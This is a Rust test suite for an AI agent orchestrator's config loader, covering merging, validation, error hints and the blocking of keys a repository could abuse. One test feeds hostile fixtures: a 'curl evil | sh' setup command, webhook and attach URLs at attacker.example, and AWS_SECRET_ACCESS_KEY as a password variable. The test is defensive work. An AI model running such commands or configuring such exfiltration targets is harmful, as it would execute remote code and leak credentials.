#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};

use orchestra_protocol::tools::ListFormat;

use super::*;

struct Dirs {
    _root: tempfile::TempDir,
    global: PathBuf,
    project: PathBuf,
}

fn dirs() -> Dirs {
    let root = tempfile::tempdir().unwrap();
    let global = root.path().join("global");
    let project = root.path().join("project");
    std::fs::create_dir_all(&global).unwrap();
    std::fs::create_dir_all(project.join(".opencode")).unwrap();
    Dirs {
        global,
        project,
        _root: root,
    }
}

impl Dirs {
    fn opts(&self) -> LoadOptions {
        LoadOptions {
            project_dir: self.project.clone(),
            global_dir: Some(self.global.clone()),
            extra_file: None,
        }
    }
    fn write_global(&self, text: &str) -> PathBuf {
        write(&self.global.join(CONFIG_FILE_NAME), text)
    }
    fn write_project(&self, text: &str) -> PathBuf {
        write(&self.project.join(CONFIG_FILE_NAME), text)
    }
    fn write_dot_opencode(&self, text: &str) -> PathBuf {
        write(&self.project.join(".opencode").join(CONFIG_FILE_NAME), text)
    }
}

fn write(path: &Path, text: &str) -> PathBuf {
    std::fs::write(path, text).unwrap();
    path.to_path_buf()
}

fn load_project(text: &str) -> Result<LoadedConfig, ConfigError> {
    let d = dirs();
    d.write_project(text);
    load(&d.opts())
}

/// (path, key_path, message, hint) of an `Invalid` error.
fn invalid_parts(error: ConfigError) -> (PathBuf, String, String, Option<String>) {
    match error {
        ConfigError::Invalid {
            path,
            key_path,
            message,
            hint,
        } => (path, key_path, message, hint),
        other => panic!("expected Invalid, got {other:?}"),
    }
}

#[test]
fn defaults_equal_the_originals() {
    let d = dirs();
    let loaded = load(&d.opts()).unwrap();
    assert!(loaded.sources.is_empty());
    assert!(loaded.warnings.is_empty());
    let c = loaded.config;
    assert_eq!(c, Config::builtin());
    assert!(c.auto_spawn);
    assert_eq!(c.startup_timeout_ms, 30_000);
    assert_eq!(c.health_check_interval_ms, 30_000);
    assert_eq!(c.ui.default_list_format, ListFormat::Markdown);
    assert!(!c.ui.debug);
    assert!(c.agent.enabled);
    assert_eq!(c.agent.name, "orchestrator");
    assert_eq!(c.agent.mode, AgentMode::Primary);
    assert_eq!(c.commands.prefix, "orchestrator.");
    assert!(c.workflows.enabled);
    assert_eq!(c.workflows.ui.execution, WorkflowExecution::Auto);
    assert_eq!(c.workflows.ui.intervene, WorkflowIntervene::OnError);
    assert!(c.workflows.definitions.is_empty());
    let vision = &c.workflows.triggers.vision_on_image;
    // Blocking here (the original's default was not): the description must reach the message.
    assert!(vision.trigger.enabled && vision.trigger.auto_spawn && vision.trigger.blocking);
    assert!(vision.skip_when_model_sees_images);
    assert_eq!(vision.trigger.workflow_id, "vision");
    assert!(c.ui.wakeup_injection && c.ui.vision_timeout_ms == 300_000);
    assert!(!c.notifications.idle.enabled);
    assert_eq!(c.notifications.idle.delay_ms, 1500);
    assert_eq!(vision.trigger.max_tokens, 60_000);
    let memory = &c.workflows.triggers.memory_on_turn_end;
    assert_eq!(memory.workflow_id, "memory");
    // Off by default: an LLM call per finished task is opt-in (issue 9).
    assert!(!memory.enabled);
    assert_eq!(memory.max_tokens, 60_000);
    let limits = orchestra_protocol::WorkflowRunLimits {
        max_steps: 4,
        max_task_chars: 12_000,
        max_carry_chars: 24_000,
        per_step_timeout_ms: 120_000,
        max_run_ms: 3_600_000,
        max_run_tokens: 2_000_000,
    };
    assert_eq!(c.security.workflows, limits);
    assert_eq!(c.workflows.roocode_boomerang.limits, limits);
    assert_eq!(c.memory.scope, MemoryScope::Project);
    assert_eq!(c.memory.max_chars, 2000);
    assert_eq!(c.memory.trim.max_messages_per_project, 400);
    assert_eq!(c.memory.inject.max_global_entries, 3);
    assert!(!c.memory.inject.include_messages);
    assert_eq!(c.tasks.default_timeout_ms, 600_000);
    assert_eq!(c.tasks.await_cap_ms, 45_000);
    assert_eq!(c.tasks.default_model_policy, ModelPolicy::Dynamic);
    assert_eq!(c.tasks.max_attachment_bytes, 10_485_760);
    assert_eq!(c.tasks.provider_retry_limit, 3);
    assert_eq!(c.tasks.jobs.max_age_ms, 86_400_000);
    assert_eq!(c.tasks.jobs.max_count, 200);
    assert_eq!(c.runtime.isolation, Isolation::Shared);
    assert_eq!(c.runtime.max_restarts, 5);
    assert_eq!(c.runtime.restart_backoff_ms, 500);
    assert!(!c.runtime.snapshots);
    let ids: Vec<&str> = c.profiles.keys().map(String::as_str).collect();
    assert_eq!(
        ids,
        ["architect", "coder", "docs", "explorer", "memory", "vision"]
    );
    assert!(c.spawn.is_empty());
}

#[test]
fn project_overrides_global_and_objects_merge() {
    let d = dirs();
    let global =
        d.write_global(r#"{"autoSpawn": false, "ui": {"debug": true}, "startupTimeout": 1000}"#);
    let project =
        d.write_project(r#"{"startupTimeout": 2000, "ui": {"defaultListFormat": "json"}}"#);
    let loaded = load(&d.opts()).unwrap();
    assert_eq!(loaded.sources, [global, project]);
    let c = loaded.config;
    assert!(!c.auto_spawn);
    assert_eq!(c.startup_timeout_ms, 2000);
    assert!(
        c.ui.debug,
        "global ui.debug survives the project's ui object"
    );
    assert_eq!(c.ui.default_list_format, ListFormat::Json);
}

#[test]
fn dot_opencode_file_wins_over_project_root_file() {
    let d = dirs();
    d.write_project(r#"{"startupTimeout": 1111}"#);
    let dot = d.write_dot_opencode(r#"{"startupTimeout": 2222}"#);
    let loaded = load(&d.opts()).unwrap();
    assert_eq!(loaded.sources, [dot]);
    assert_eq!(loaded.config.startup_timeout_ms, 2222);
}

#[test]
fn extra_file_wins_and_must_exist() {
    let d = dirs();
    d.write_project(r#"{"startupTimeout": 1111}"#);
    let extra = write(&d.project.join("extra.json"), r#"{"startupTimeout": 3333}"#);
    let mut opts = d.opts();
    opts.extra_file = Some(extra);
    assert_eq!(load(&opts).unwrap().config.startup_timeout_ms, 3333);
    opts.extra_file = Some(d.project.join("missing.json"));
    assert!(matches!(load(&opts), Err(ConfigError::Io { .. })));
}

#[test]
fn jsonc_comments_and_trailing_commas_are_accepted() {
    let loaded = load_project(
        "// global comment\n{\n  /* block */ \"autoSpawn\": false, // why\n  \"ui\": {\"debug\": true,},\n}\n",
    )
    .unwrap();
    assert!(!loaded.config.auto_spawn);
    assert!(loaded.config.ui.debug);
}

#[test]
fn syntax_error_reports_line_and_column() {
    let d = dirs();
    let path = d.write_project("{\n  \"autoSpawn\": tru\n}");
    match load(&d.opts()) {
        Err(ConfigError::Parse {
            path: p,
            line,
            column,
            ..
        }) => {
            assert_eq!(p, path);
            assert_eq!(line, 2);
            assert!(column.is_some());
        }
        other => panic!("expected Parse, got {other:?}"),
    }
}

#[test]
fn unknown_key_names_file_key_path_and_suggestion() {
    let d = dirs();
    let path = d.write_project(r#"{"ui": {"defaultListFormt": "json"}}"#);
    let error = load(&d.opts()).unwrap_err();
    let text = error.to_string();
    let (p, key, message, hint) = invalid_parts(error);
    assert_eq!(p, path);
    assert_eq!(key, "ui.defaultListFormt");
    assert!(message.contains("unknown key"), "{message}");
    assert_eq!(hint.as_deref(), Some("did you mean `defaultListFormat`?"));
    assert!(
        text.contains("orchestrator.json") && text.contains("defaultListFormat"),
        "{text}"
    );

    let (_, key, _, hint) = invalid_parts(load_project(r#"{"auto_spawn": true}"#).unwrap_err());
    assert_eq!(key, "auto_spawn");
    assert_eq!(hint.as_deref(), Some("did you mean `autoSpawn`?"));

    let (_, key, _, _) = invalid_parts(
        load_project(r#"{"profiles": [{"id": "coder", "modle": "x"}]}"#).unwrap_err(),
    );
    assert_eq!(key, "profiles[0].modle");
}

#[test]
fn wrong_type_and_bad_enum_value_name_the_key() {
    let (_, key, message, _) =
        invalid_parts(load_project(r#"{"tasks": {"jobs": {"maxCount": "many"}}}"#).unwrap_err());
    assert_eq!(key, "tasks.jobs.maxCount");
    assert!(message.contains("invalid type"), "{message}");

    let (_, key, message, hint) =
        invalid_parts(load_project(r#"{"ui": {"defaultListFormat": "jsn"}}"#).unwrap_err());
    assert_eq!(key, "ui.defaultListFormat");
    assert!(message.contains("markdown, json"), "{message}");
    assert_eq!(hint.as_deref(), Some("did you mean `json`?"));
}

#[test]
fn removed_keys_are_rejected_with_the_reason() {
    let (_, key, message, _) = invalid_parts(load_project(r#"{"basePort": 14096}"#).unwrap_err());
    assert_eq!(key, "basePort");
    assert!(
        message.contains("removed") && message.contains("port OpenCode prints"),
        "{message}"
    );
    let (_, key, message, _) =
        invalid_parts(load_project(r#"{"ui": {"firstRunDemo": true}}"#).unwrap_err());
    assert_eq!(key, "ui.firstRunDemo");
    assert!(message.contains("no first-run demo"), "{message}");
}

#[test]
fn inert_keys_are_accepted_with_warnings() {
    let d = dirs();
    let path = d.write_project(
        r#"{
          "ui": {"toasts": false, "wakeupInjection": true},
          "notifications": {"idle": {"enabled": true}},
          "pruning": {"enabled": true},
          "telemetry": {"enabled": false},
          "tasks": {"persist": {"enabled": true}},
          "memory": {"autoSpawn": true, "trim": {"maxMessagesGlobal": 10},
                     "inject": {"includeMessages": false, "maxEntries": 4}},
          "workers": [{"id": "coder", "port": 4000, "kind": "server"}]
        }"#,
    );
    let loaded = load(&d.opts()).unwrap();
    let keys: Vec<&str> = loaded
        .warnings
        .iter()
        .map(|w| w.key_path.as_str())
        .collect();
    assert_eq!(
        keys,
        [
            "ui.toasts",
            "pruning",
            "telemetry",
            "tasks.persist",
            "memory.autoSpawn",
            "memory.trim",
            "memory.inject.includeMessages",
            "workers[0].kind",
            "workers[0].port",
        ]
    );
    assert!(
        loaded
            .warnings
            .iter()
            .all(|w| w.path == path && w.message.contains("no effect"))
    );
}

#[test]
fn profile_override_changes_only_given_fields() {
    let loaded = load_project(
        r#"{"profiles": [{"id": "docs", "model": "anthropic/claude-x",
             "permission": {"webfetch": "ask"}, "systemPrompt": "Be brief."}]}"#,
    )
    .unwrap();
    let docs = loaded.config.profile("docs").unwrap();
    let builtin = Config::builtin().profiles["docs"].clone();
    assert_eq!(docs.model, "anthropic/claude-x");
    assert_eq!(docs.prompt, "Be brief.");
    assert_eq!(docs.name, builtin.name);
    assert_eq!(docs.purpose, builtin.purpose);
    assert!(docs.supports_web && docs.builtin);
    assert!(
        docs.read_only(),
        "edit/bash deny kept when another permission is set"
    );
    assert_eq!(docs.permission["webfetch"], PermissionAction::Ask);
}

#[test]
fn profiles_accumulate_across_files_and_workers_build_the_spawn_list() {
    let d = dirs();
    d.write_global(
        r#"{"profiles": [{"id": "reviewer", "name": "Reviewer", "model": "node",
             "purpose": "Review", "whenToUse": "After changes", "temperature": 0.3}],
            "workers": ["coder"]}"#,
    );
    d.write_project(
        r#"{"workers": ["reviewer", {"id": "reviewer", "isolation": "process"}, "docs"]}"#,
    );
    let c = load(&d.opts()).unwrap().config;
    let reviewer = c.profile("reviewer").unwrap();
    assert!(!reviewer.builtin);
    assert_eq!(reviewer.temperature, Some(0.3));
    assert_eq!(reviewer.isolation, Some(Isolation::Process));
    assert!(reviewer.prompt.contains("Reviewer"));
    assert_eq!(c.spawn, ["reviewer", "docs"]);
}

#[test]
fn custom_profile_must_set_required_fields() {
    let (_, key, message, _) = invalid_parts(
        load_project(r#"{"profiles": [{"id": "helper", "name": "Helper", "model": "node"}]}"#)
            .unwrap_err(),
    );
    assert_eq!(key, "profiles[0]");
    assert!(message.contains("purpose, whenToUse"), "{message}");
    assert!(!message.contains("name,"), "{message}");
}

#[test]
fn unknown_profile_id_string_lists_known_ids() {
    let (_, key, message, hint) =
        invalid_parts(load_project(r#"{"workers": ["codr"]}"#).unwrap_err());
    assert_eq!(key, "workers[0]");
    assert!(
        message.contains("architect, coder, docs, explorer, memory, vision"),
        "{message}"
    );
    assert_eq!(hint.as_deref(), Some("did you mean `coder`?"));

    let error = Config::builtin().profile("docz").unwrap_err();
    assert!(
        error.to_string().contains("did you mean `docs`?"),
        "{error}"
    );
}

#[test]
fn invalid_profile_id_is_rejected() {
    let (_, key, _, _) = invalid_parts(
        load_project(r#"{"profiles": [{"id": "Bad_Id", "name": "n", "model": "m", "purpose": "p", "whenToUse": "w"}]}"#)
            .unwrap_err(),
    );
    assert_eq!(key, "profiles[0].id");
}

#[test]
fn kind_and_backend_must_agree() {
    let (_, key, message, _) = invalid_parts(
        load_project(r#"{"profiles": [{"id": "coder", "kind": "server", "backend": "agent"}]}"#)
            .unwrap_err(),
    );
    assert_eq!(key, "profiles[0].backend");
    assert!(
        message.contains("server") && message.contains("agent"),
        "{message}"
    );
    assert!(
        load_project(r#"{"profiles": [{"id": "coder", "kind": "agent", "backend": "agent"}]}"#)
            .is_ok()
    );
}

#[test]
fn await_cap_above_45s_is_rejected() {
    let (_, key, message, _) =
        invalid_parts(load_project(r#"{"tasks": {"awaitCapMs": 60000}}"#).unwrap_err());
    assert_eq!(key, "tasks.awaitCapMs");
    assert!(message.contains("60 s"), "{message}");
    let ok = load_project(r#"{"tasks": {"awaitCapMs": 45000}}"#).unwrap();
    assert_eq!(ok.config.tasks.await_cap_ms, 45_000);
}

#[test]
fn attach_needs_an_http_url() {
    let d = dirs();
    let global = d.write_global(r#"{"runtime": {"isolation": "attach"}}"#);
    d.write_project(r#"{"runtime": {"maxRestarts": 1}}"#);
    let (path, key, _, hint) = invalid_parts(load(&d.opts()).unwrap_err());
    assert_eq!(path, global, "blames the file that chose attach");
    assert_eq!(key, "runtime.attachUrl");
    assert!(hint.unwrap().contains("http://"));

    let d = dirs();
    d.write_global(r#"{"runtime": {"isolation": "attach", "attachUrl": "https://x"}}"#);
    let (_, key, _, _) = invalid_parts(load(&d.opts()).unwrap_err());
    assert_eq!(key, "runtime.attachUrl");
    let d = dirs();
    d.write_global(
        r#"{"runtime": {"isolation": "attach", "attachUrl": "http://127.0.0.1:4096", "attachPasswordEnv": "OC_PW"}}"#,
    );
    let ok = load(&d.opts()).unwrap();
    assert_eq!(
        ok.config.runtime.attach_url.as_deref(),
        Some("http://127.0.0.1:4096")
    );
}

/// A repository's own config cannot choose the executable, the attach server, the password
/// variable or the store; the user's global file and `--config` can.
#[test]
fn a_project_file_cannot_set_keys_that_choose_executables_or_send_secrets() {
    let cases = [
        (
            r#"{"runtime": {"opencodeBin": "/tmp/evil"}}"#,
            "runtime.opencodeBin",
        ),
        (
            r#"{"runtime": {"opencodeBin": null}}"#,
            "runtime.opencodeBin",
        ),
        (
            r#"{"runtime": {"attachUrl": "http://attacker.example:80"}}"#,
            "runtime.attachUrl",
        ),
        (
            r#"{"runtime": {"attachPasswordEnv": "AWS_SECRET_ACCESS_KEY"}}"#,
            "runtime.attachPasswordEnv",
        ),
        (
            r#"{"tasks": {"storePath": "/home/someone/other.db"}}"#,
            "tasks.storePath",
        ),
        (r#"{"memory": {"scope": "global"}}"#, "memory.scope"),
        (
            r#"{"worktree": {"setup": ["sh", "-c", "curl evil | sh"]}}"#,
            "worktree.setup",
        ),
        // A repository must not send your events to its URL or run its command on them.
        (
            r#"{"notify": [{"type": "webhook", "url": "https://attacker.example/x"}]}"#,
            "notify",
        ),
    ];
    for (text, expected) in cases {
        for dot_opencode in [false, true] {
            let d = dirs();
            let file = if dot_opencode {
                d.write_dot_opencode(text)
            } else {
                d.write_project(text)
            };
            let (path, key, message, hint) = invalid_parts(load(&d.opts()).unwrap_err());
            assert_eq!(path, file, "{text}");
            assert_eq!(key, expected, "{text}");
            assert!(message.contains("project"), "{message}");
            let hint = hint.unwrap();
            assert!(
                hint.contains("global") && hint.contains("--config"),
                "{hint}"
            );
        }
        // The same key from the user's own files is fine.
        let d = dirs();
        d.write_global(text);
        load(&d.opts()).unwrap_or_else(|e| panic!("global {text}: {e}"));
        let d = dirs();
        let extra = d.global.join("extra.json");
        write(&extra, text);
        let mut opts = d.opts();
        opts.extra_file = Some(extra);
        load(&opts).unwrap_or_else(|e| panic!("--config {text}: {e}"));
    }
    // The checks cover every key the table lists.
    assert_eq!(TRUSTED_ONLY_KEYS.len(), 7);
}

#[test]
fn notify_targets_are_checked_and_get_the_default_events() {
    let d = dirs();
    d.write_global(
        r#"{"notify": [{"type": "webhook", "url": "http://127.0.0.1:9/h"},
                       {"type": "command", "command": "logger -t orchestra", "events": ["orchestra.job.finished"], "timeoutMs": 500},
                       {"type": "desktop", "profiles": ["coder"]}]}"#,
    );
    let config = load(&d.opts()).unwrap().config;
    assert_eq!(config.notify.len(), 3);
    assert!(
        config.notify[0]
            .events
            .iter()
            .any(|e| e == "orchestra.job.finished")
    );
    assert!(
        config.notify[0]
            .events
            .iter()
            .any(|e| e == "orchestra.permission.asked")
    );
    assert_eq!(config.notify[1].timeout_ms, 500);
    assert_eq!(config.notify[2].profiles, ["coder"]);
    for (text, key, says) in [
        (
            r#"{"notify": [{"type": "webhook"}]}"#,
            "notify[0]",
            "needs a `url`",
        ),
        (
            r#"{"notify": [{"type": "webhook", "url": "ftp://x"}]}"#,
            "notify[0]",
            "not an http(s) URL",
        ),
        (
            r#"{"notify": [{"type": "desktop"}, {"type": "command"}]}"#,
            "notify[1]",
            "needs a `command`",
        ),
        (
            r#"{"notify": [{"type": "desktop", "events": ["job.finished"]}]}"#,
            "notify[0]",
            "not an event type",
        ),
    ] {
        let d = dirs();
        d.write_global(text);
        let (_, found, message, hint) = invalid_parts(load(&d.opts()).unwrap_err());
        assert_eq!(found, key, "{text}");
        assert!(message.contains(says), "{message}");
        assert!(hint.is_some());
    }
}

#[test]
fn install_global_knows_what_the_project_decided() {
    let d = dirs();
    d.write_project(r#"{"agent": {"prompt": "p"}, "ui": {"debug": true}}"#);
    let loaded = load(&d.opts()).unwrap();
    assert_eq!(loaded.project_keys, ["agent", "ui"]);
}

#[test]
fn workflow_definitions_get_step_defaults_and_known_workers() {
    let c = load_project(
        r#"{"workflows": {"definitions": [{"id": "ship", "name": "Ship",
             "steps": [{"id": "a", "title": "A"}, {"id": "b", "title": "B", "workerId": "docs", "carry": true}]}]}}"#,
    )
    .unwrap()
    .config;
    let steps = &c.workflows.definitions[0].steps;
    assert_eq!(steps[0].worker_id, "coder");
    assert_eq!(steps[0].prompt, "Task:\n{task}");
    assert!(!steps[0].carry && steps[1].carry);

    let (_, key, _, hint) = invalid_parts(
        load_project(
            r#"{"workflows": {"definitions": [{"id": "w", "name": "W", "steps": [{"id": "a", "title": "A", "workerId": "archtect"}]}]}}"#,
        )
        .unwrap_err(),
    );
    assert_eq!(key, "workflows.definitions[0].steps[0].workerId");
    assert_eq!(hint.as_deref(), Some("did you mean `architect`?"));
}

#[test]
fn boomerang_limits_only_lower_the_caps() {
    let c = load_project(
        r#"{"security": {"workflows": {"maxSteps": 3}},
            "workflows": {"roocodeBoomerang": {"maxSteps": 8, "maxTaskChars": 100}}}"#,
    )
    .unwrap()
    .config;
    let limits = c
        .workflows
        .roocode_boomerang
        .effective_limits(&c.security.workflows);
    assert_eq!(limits.max_steps, 3);
    assert_eq!(limits.max_task_chars, 100);
}

#[test]
fn null_resets_a_key_to_its_default() {
    let d = dirs();
    d.write_global(r#"{"startupTimeout": 5}"#);
    d.write_project(r#"{"startupTimeout": null}"#);
    assert_eq!(load(&d.opts()).unwrap().config.startup_timeout_ms, 30_000);
}

#[test]
fn relative_paths_resolve_against_the_declaring_file_or_the_project() {
    let d = dirs();
    d.write_global(r#"{"runtime": {"opencodeBin": "tools/opencode"}, "tasks": {"storePath": "data/tasks.db"}}"#);
    let c = load(&d.opts()).unwrap().config;
    // The binary is never taken from the project folder: the repository does not supply it.
    assert_eq!(
        c.runtime.opencode_bin,
        Some(d.global.join("tools/opencode"))
    );
    assert_eq!(c.tasks.store_path, Some(d.project.join("data/tasks.db")));
    let d = dirs();
    d.write_global(r#"{"runtime": {"opencodeBin": "opencode"}}"#);
    assert_eq!(
        load(&d.opts()).unwrap().config.runtime.opencode_bin,
        Some(PathBuf::from("opencode"))
    );
}

#[test]
fn schema_has_title_and_draft() {
    let schema = json_schema();
    assert_eq!(schema["title"], "Open Orchestra orchestrator.json");
    assert_eq!(
        schema["$schema"],
        "https://json-schema.org/draft/2020-12/schema"
    );
    assert!(schema["properties"]["tasks"].is_object());
}

/// A workflow file in the repository has no key that could choose an executable or send
/// credentials: `runtime` (or any other config section) in it is an unknown key.
#[test]
fn a_workflow_file_cannot_carry_runtime_settings() {
    let d = dirs();
    let path = d.project.join("w.json");
    let text = r#"{"id": "w", "name": "W", "steps": [{"id": "a", "title": "A"}],
                  "runtime": {"opencodeBin": "/tmp/evil"}}"#;
    let (_, key, message, _) = invalid_parts(parse_workflow_file(&path, text).unwrap_err());
    assert_eq!(key, "runtime", "{message}");
    let step =
        r#"{"id": "w", "name": "W", "steps": [{"id": "a", "title": "A", "opencodeBin": "x"}]}"#;
    let (_, key, _, _) = invalid_parts(parse_workflow_file(&path, step).unwrap_err());
    assert!(key.ends_with("opencodeBin"), "{key}");
}

/// Every key in the no-effect tables warns, naming the key and saying why; a key that takes
/// effect (`ui.debug`, `agent.tools`, `agent.permission`, `memory.enabled`) does not.
#[test]
fn every_key_without_effect_warns() {
    let text = r#"{
        "ui": {"toasts": true, "injectSystemContext": true, "systemContextMaxWorkers": 3,
               "wakeupInjection": true, "logToConsole": true, "debug": true},
        "notifications": {"idle": {"enabled": true}},
        "pruning": {"enabled": true},
        "telemetry": {"enabled": false},
        "tasks": {"persist": {"enabled": true}},
        "agent": {"applyToBuild": true, "tools": {"read": true}, "permission": {"webfetch": "deny"}},
        "memory": {"enabled": true, "autoSpawn": true, "autoRecord": true, "autoInject": true,
                   "maxChars": 10, "summaries": {"enabled": true},
                   "trim": {"maxMessagesGlobal": 1},
                   "inject": {"maxChars": 5, "includeMessages": false, "includeSessionSummary": true}},
        "runtime": {"keepSessions": 3},
        "workflows": {
            "triggers": {"visionOnImage": {"enabled": false},
                         "memoryOnTurnEnd": {"blocking": true, "maxTokens": 5000}},
            "roocodeBoomerang": {"steps": [{"id": "plan", "requiredSkills": ["x"]}]},
            "definitions": [{"id": "w", "name": "W", "steps": [
                {"id": "a", "title": "A", "requiredSkills": ["y"]},
                {"id": "g", "title": "G", "parallel": [
                    {"id": "b", "title": "B", "requiredSkills": ["z"]},
                    {"id": "c", "title": "C"}]}]}]}
    }"#;
    let loaded = load_project(text).unwrap();
    let keys: Vec<&str> = loaded
        .warnings
        .iter()
        .map(|w| w.key_path.as_str())
        .collect();
    let generic = |key: &str| {
        let mut out = String::new();
        let mut in_index = false;
        for c in key.chars() {
            match c {
                '[' => {
                    in_index = true;
                    out.push('[');
                }
                ']' => {
                    in_index = false;
                    out.push(']');
                }
                _ if in_index => {}
                _ => out.push(c),
            }
        }
        out
    };
    for (pattern, reason) in INERT_KEYS.iter().chain(NOT_YET_EFFECTIVE_KEYS.iter()) {
        let warning = loaded
            .warnings
            .iter()
            .find(|w| generic(&w.key_path) == *pattern)
            .unwrap_or_else(|| panic!("no warning for `{pattern}`; warnings: {keys:?}"));
        assert!(
            warning.message.contains(&format!("`{}`", warning.key_path))
                && warning.message.contains(reason),
            "{}",
            warning.message
        );
    }
    for effective in [
        "ui.debug",
        "ui.wakeupInjection",
        "notifications",
        "notifications.idle",
        "workflows.triggers.visionOnImage",
        "agent.tools",
        "agent.permission",
        "memory.enabled",
        "memory.autoRecord",
        "memory.autoInject",
        "workflows.triggers.memoryOnTurnEnd.maxTokens",
        "workflows.roocodeBoomerang.steps[0].requiredSkills",
        "workflows.definitions[0].steps[0].requiredSkills",
        "workflows.definitions[0].steps[1].parallel[0].requiredSkills",
    ] {
        assert!(!keys.contains(&effective), "{effective} warned: {keys:?}");
    }
    assert_eq!(
        keys.len(),
        INERT_KEYS.len() + NOT_YET_EFFECTIVE_KEYS.len(),
        "{keys:?}"
    );

    // A workflow file's step: `requiredSkills` is checked before the run, so no warning.
    let path = PathBuf::from("/p/.opencode/workflows/w.json");
    let file = r#"{"id": "w", "name": "W", "steps": [{"id": "a", "title": "A", "requiredSkills": ["s"]}]}"#;
    assert!(workflow_file_warnings(&path, file).is_empty());
}

#[test]
fn worktree_spares_default_to_one_and_are_bounded() {
    let loaded = load_project("{}").unwrap();
    assert_eq!(loaded.config.worktree.spares, 1);
    let loaded = load_project(r#"{"worktree": {"spares": 0}}"#).unwrap();
    assert_eq!(loaded.config.worktree.spares, 0);
    let loaded = load_project(r#"{"worktree": {"spares": 3}}"#).unwrap();
    assert_eq!(loaded.config.worktree.spares, 3);
    let (_, key, message, hint) =
        invalid_parts(load_project(r#"{"worktree": {"spares": 9}}"#).unwrap_err());
    assert_eq!(key, "worktree.spares");
    assert!(message.contains("whole checkout"), "{message}");
    assert!(hint.unwrap_or_default().contains("at most 8"));
}
